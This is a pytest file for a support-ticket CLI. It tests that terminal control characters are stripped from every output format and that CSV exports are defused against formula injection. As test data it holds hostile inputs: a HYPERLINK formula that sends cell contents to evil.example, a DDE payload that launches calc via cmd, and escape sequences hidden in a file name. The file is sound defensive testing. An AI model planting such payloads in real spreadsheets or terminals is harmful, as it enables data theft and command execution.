"""Hostile text in every output of the CLI (issue 16, items 13, 19, 20): tables, JSON, NDJSON,
CSV and error messages go through the sanitiser; JSON escapes what a terminal acts on; CSV cells
are defused against formula injection and read back as they were; piped tables are tidy."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from csm_console.domain.text import defuse_formula, escape_json_controls, restore_formula
from csm_console.services import setup
from csm_console.store.engine import Store
from tests.conftest import Cli, sample_url
from tests.hostile import hostile_cases

CASES = [c["text"] for c in hostile_cases() if c["text"].strip()]
# What must never reach a terminal: ESC and every other C0 but tab/newline, DEL, C1, bidi controls.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


csm = Cli(agent="admin").on


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store whose imported tickets carry the hostile cases as subject, first message, customer
    name and category, written past the services (as another client of the database could)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'h.db'}"
    store = Store(url)
    setup.initialize(store)
    setup.load_sample(store)
    records = [
        {
            "subject": f"t{i}",
            "body": "b",
            "customer_email": f"h{i}@x.example",
            "team": "Frontline",
            "tags": ["hostile"],
        }
        for i in range(len(CASES))
    ]
    result = csm(url, "import", "tickets", "-", "--format", "json", stdin=json.dumps(records))
    assert result.exit_code == 0, result.output
    ids = [int(x) for x in result.stdout.split()]
    with store.engine.begin() as conn:
        for ticket_id, case in zip(ids, CASES, strict=True):
            conn.execute(
                text("UPDATE ticket SET subject = :s, category = :c WHERE id = :i"),
                {"s": case[:SUBJECT], "c": case[:40], "i": ticket_id},
            )
            conn.execute(
                text("UPDATE message SET body = :s WHERE ticket_id = :i"),
                {"s": case, "i": ticket_id},
            )
            conn.execute(
                text(
                    "UPDATE customer SET name = :s WHERE id = "
                    "(SELECT customer_id FROM ticket WHERE id = :i)"
                ),
                {"s": case, "i": ticket_id},
            )
    store.dispose()
    # two of them get short ids, so that ids of different widths are listed together
    import sqlite3

    with sqlite3.connect(
        url.removeprefix("sqlite:///")
    ) as conn:  # foreign keys off: renumber (the audit trail is append-only and keeps the old ids)
        for old, new in ((ids[0], 7), (ids[1], 42)):
            for table, column in (
                ("ticket", "id"),
                ("message", "ticket_id"),
                ("ticket_tag", "ticket_id"),
            ):
                conn.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = ?", (new, old))
        # and #7 belongs to the customer of a four-digit one, for `customers show`
        conn.execute(
            "UPDATE ticket SET customer_id = (SELECT customer_id FROM ticket WHERE id = ?) "
            "WHERE id = 7",
            (ids[2],),
        )
    return url


QUERY = "tag:hostile"
SUBJECT = 200


@pytest.mark.parametrize(
    "args",
    [
        ("tickets", "list", "--query", QUERY, "--format", "table", "--limit", "100"),
        ("tickets", "list", "--query", QUERY, "--format", "csv"),
        ("tickets", "list", "--query", QUERY, "--format", "json"),
        ("tickets", "list", "--query", QUERY, "--format", "ndjson"),
        ("export", "tickets", "--query", QUERY, "--format", "csv"),
        ("export", "tickets", "--query", QUERY, "--format", "json"),
        ("export", "tickets", "--query", QUERY, "--format", "ndjson"),
        ("report", "--by", "category", "--format", "csv"),
        ("report", "--by", "category", "--format", "json"),
        ("report", "--by", "category"),
    ],
    ids=lambda a: " ".join(a[:2]) + " " + a[-1],
)
def test_no_output_format_carries_terminal_controls(hostile_db: str, args: tuple[str, ...]) -> None:
    result = csm(hostile_db, *args)
    assert result.exit_code == 0, result.output
    assert "t0" not in result.stdout  # the hostile text replaced the import's subjects
    assert "invoice_" in result.stdout  # and it is there, cleaned
    assert not UNSAFE.findall(result.stdout), args
    assert not UNSAFE.findall(result.stderr), args


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
def test_json_keeps_every_character_as_an_escape(hostile_db: str, fmt: str) -> None:
    result = csm(hostile_db, "export", "tickets", "--query", QUERY, "--format", fmt, "--sort", "id")
    assert result.exit_code == 0, result.output
    assert "\\u009b" in result.stdout and "\\u202e" in result.stdout and "\\u001b" in result.stdout
    if fmt == "json":
        records = json.loads(result.stdout)
    else:
        records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["subject"] for r in records] == [c[:SUBJECT] for c in CASES]
    assert [r["body"] for r in records] == CASES


def test_csv_is_sanitised_and_defused_and_imports_back(hostile_db: str) -> None:
    result = csm(
        hostile_db, "export", "tickets", "--query", QUERY, "--format", "csv", "--sort", "id"
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    subjects = {r["subject"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")' in subjects
    assert "'+cmd|' /C calc'!A0" in subjects
    assert "'\t=1+1" in subjects
    assert "helloworld" in subjects and "subject" in subjects  # ESC[2J and OSC 0 removed
    for row in rows:
        for cell in row.values():
            assert not re.match(r"[=+\-@\t\r]", cell) or re.fullmatch(r"-\d+", cell), cell
    # what `csm import` reads from the default export is the text as it was (defusing undone)
    from csm_console.domain.ticket_record import read_records

    read = [r.data["subject"] for r in read_records(result.stdout.encode(), "csv")]
    assert '=HYPERLINK("http://evil.example/?"&A1,"Refund")' in read
    assert "+cmd|' /C calc'!A0" in read


def test_raw_csv_export_round_trips_exactly(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "raw.csv"
    result = csm(
        hostile_db,
        "export",
        "tickets",
        "--query",
        QUERY,
        "--sort",
        "id",
        "--raw",
        "-o",
        str(target),
    )
    assert result.exit_code == 0, result.output
    from csm_console.domain.ticket_record import read_records

    data = target.read_bytes()
    read = [r.data["subject"] for r in read_records(data, "csv", raw=True)]
    assert read == [c[:SUBJECT] for c in CASES]


@pytest.mark.parametrize("raw", [False, True], ids=["defused", "raw"])
def test_csv_export_reimports_unchanged(tmp_path: Path, raw: bool) -> None:
    """Formula-like values survive an export and import: the import undoes the defusing; a
    `--raw` export, read with `import --raw`, has nothing to undo."""
    url = sample_url(tmp_path / "f.db")
    values = ["=1+1 please", "+371 2000 0000", "-5", "@home", "'=already quoted", "-3 degrees"]
    records = [
        {
            "subject": v,
            "body": v,
            "customer_email": f"f{i}@x.example",
            "category": v[:40],
            "tags": ["formula"],
        }
        for i, v in enumerate(values)
    ]
    assert (
        csm(url, "import", "tickets", "-", "--format", "json", stdin=json.dumps(records)).exit_code
        == 0
    )
    flag = ["--raw"] if raw else []
    exported = csm(url, "export", "tickets", "--query", "tag:formula", "--format", "csv", *flag)
    assert exported.exit_code == 0
    if raw:
        assert ",=1+1 please," in exported.stdout
        assert ",''=already quoted," not in exported.stdout
    else:
        assert "'=1+1 please" in exported.stdout and "'-3 degrees" in exported.stdout
        assert ",-5,-5," in exported.stdout  # a plain negative number is left as it is
        assert "''=already quoted" in exported.stdout
    back = csm(url, "import", "tickets", "-", "--format", "csv", *flag, stdin=exported.stdout)
    assert back.exit_code == 0, back.output
    assert "6 unchanged" in back.stderr


@given(st.text())
def test_defusing_is_undone_exactly(cell: str) -> None:
    defused = defuse_formula(cell)
    assert restore_formula(defused) == cell
    assert not re.match(r"[=+\-@\t\r]", defused) or re.fullmatch(r"-[\d.,eE+-]+", defused)


def test_json_escapes_c1_bidi_and_lone_surrogates() -> None:
    encoded = escape_json_controls(json.dumps("a\x9b31m\u202e\x7f\ud800\u2028", ensure_ascii=False))
    assert encoded == '"a\\u009b31m\\u202e\\u007f\\ud800\\u2028"'
    assert json.loads(encoded) == "a\x9b31m\u202e\x7f\ud800\u2028"


def test_error_messages_are_sanitised(hostile_db: str, tmp_path: Path) -> None:
    name = str(tmp_path / "\x1b]0;pwned\x07\x9b2J\u202eno.csv")
    result = csm(hostile_db, "import", "tickets", name)
    assert result.exit_code == 2
    assert "no such file" in result.stderr and "no.csv" in result.stderr
    assert not UNSAFE.findall(result.stderr)


def test_piped_tables_have_no_trailing_spaces_and_ids_align(hostile_db: str) -> None:
    result = csm(hostile_db, "tickets", "list", "--query", QUERY, "--sort", "id")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == len(CASES) + 1
    assert [line for line in lines if line != line.rstrip()] == []
    assert re.match(r" +7  ", lines[1]) and re.match(r" +42  ", lines[2]), lines[:3]
    # the id column is right-aligned: every id ends in the same column as its header
    ends = {len(m.group()) for line in lines if (m := re.match(r"\s*\S+", line))}
    assert len(ends) == 1, lines[:4]


def test_listed_ids_of_different_widths_line_up(hostile_db: str) -> None:
    dry = csm(hostile_db, "tickets", "reassign", "--query", QUERY, "--to", "laura")
    assert dry.exit_code == 0, dry.output
    lines = dry.stdout.splitlines()
    assert lines[0].startswith("   7  —") and lines[1].startswith("  42  —"), lines[:3]
    assert len({line.index("→") for line in lines}) == 1
    shown = csm(hostile_db, "customers", "show", "h2@x.example")
    assert shown.exit_code == 0, shown.output
    numbers = [line for line in shown.stdout.splitlines() if line.lstrip().startswith("#")]
    assert len(numbers) == 2 and numbers[0].startswith("     #7  "), numbers
    assert len({line.index("#") + len(line.split()[0]) for line in numbers}) == 1
